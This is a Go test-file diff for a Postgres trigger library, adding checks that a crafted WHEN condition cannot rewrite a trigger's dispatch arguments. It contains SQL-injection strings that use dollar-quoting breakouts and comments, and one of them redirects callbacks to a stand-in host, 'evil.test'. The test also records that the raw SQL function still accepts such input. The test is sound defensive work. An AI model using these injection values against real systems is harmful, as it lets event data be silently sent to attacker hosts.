@@ -175,6 +175,7 @@ func TestListAndRemove(t *testing.T) {
 	require.Equal(t, []string{"delete", "insert"}, list[0].Events)
 	require.Equal(t, "events", list[0].Queue)
 	require.True(t, list[0].Present)
+	require.True(t, list[0].Matches)
 
 	require.NoError(t, triggers.Remove(ctx, pool, b.schema, name, 0))
 	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
@@ -276,4 +277,82 @@ func TestInjectionDropsNothing(t *testing.T) {
 	var triggersLeft int
 	require.NoError(t, pool.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal", b.table).Scan(&triggersLeft))
 	require.Zero(t, triggersLeft)
+}
+
+// A WHEN condition that leaves its clause with dollar quotes, closed inside
+// the payload, where a comment swallows the rest, would make the trigger call
+// dispatch_event with arguments of its own: the record (and triggers list)
+// says one URL, the trigger sends to another. Add refuses it, and leaves
+// neither trigger nor record behind.
+func TestWhenCannotChangeTheTriggersArguments(t *testing.T) {
+	t.Parallel()
+	b := setup(t, "orders")
+	ctx := context.Background()
+	pool := pgtest.Pool(t)
+	fn := pgx.Identifier{b.schema, "dispatch_event"}.Sanitize()
+
+	specs := map[string]triggers.Spec{
+		"url": {
+			When:    `true) EXECUTE FUNCTION ` + fn + `('http_callback', 'default', '{"url": "http://evil.test/"}', $q$`,
+			Payload: json.RawMessage(`{"url": "` + b.url + `/good", "note": "$q$) --"}`),
+		},
+		"queue and kind": {
+			When:    `true) EXECUTE FUNCTION ` + fn + `('noop', 'elsewhere', '{}', $q$`,
+			Payload: json.RawMessage(`{"url": "` + b.url + `/good", "note": "$q$) --"}`),
+		},
+		"when": { // the arguments as recorded, the condition not
+			When: `NEW.status = 'paid') EXECUTE FUNCTION ` + fn + `('http_callback', 'default', ` +
+				`'{"url": "` + b.url + `/good"}') $q$`,
+			Payload: json.RawMessage(`{"url": "` + b.url + `/good"}`),
+		},
+	}
+	for name, s := range specs {
+		s.Table, s.Kind, s.Name = b.table, httpcallback.Kind, "hijack"
+		_, _, err := triggers.Add(ctx, pool, b.schema, s)
+		require.Error(t, err, name)
+		t.Logf("%s: refused: %v", name, err)
+		list, err := triggers.List(ctx, pool, b.schema)
+		require.NoError(t, err)
+		require.Empty(t, list, name)
+	}
+	var left int
+	require.NoError(t, pool.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal",
+		b.table).Scan(&left))
+	require.Zero(t, left)
+	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
+	require.Zero(t, b.jobCount(t), "no trigger made a job")
+
+	// The SQL function alone, as psql users call it, still lets it through
+	// (migration 004): List says the trigger is not the one recorded.
+	s := specs["url"]
+	b.exec(t, "SELECT "+pgx.Identifier{b.schema, "add_trigger"}.Sanitize()+"($1, ARRAY['insert'], 'http_callback', $2, 'default', $3, 'hijack')",
+		b.table, string(s.Payload), s.When)
+	list, err := triggers.List(ctx, pool, b.schema)
+	require.NoError(t, err)
+	require.Len(t, list, 1)
+	require.True(t, list[0].Present)
+	require.False(t, list[0].Matches)
+}
+
+// Conditions and payloads that only look odd are accepted, and the trigger
+// is the one recorded: quotes, backslashes and dollar quotes inside the
+// condition's own literals, and in the payload.
+func TestOddButPlainWhenIsAccepted(t *testing.T) {
+	t.Parallel()
+	b := setup(t, "orders")
+	ctx := context.Background()
+	payload := `{"url": "` + b.url + `/orders", "data": {"extra": "it's a \\ $q$ ) -- /* test"}}`
+	b.add(t, triggers.Spec{
+		Events: []string{"update", "insert"}, Name: `odd "name"`,
+		When:    `NEW.status IN ($q$pa'id$q$, 'it''s', E'back\\slash') AND (NEW.total > 0 OR NEW.id = 0)`,
+		Kind:    httpcallback.Kind,
+		Payload: json.RawMessage(payload),
+	})
+	list, err := triggers.List(ctx, pgtest.Pool(t), b.schema)
+	require.NoError(t, err)
+	require.Len(t, list, 1)
+	require.True(t, list[0].Present)
+	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, $1, 10)", "pa'id")
+	e := b.receive(t)
+	require.Equal(t, `it's a \ $q$ ) -- /* test`, e.Extra)
 }
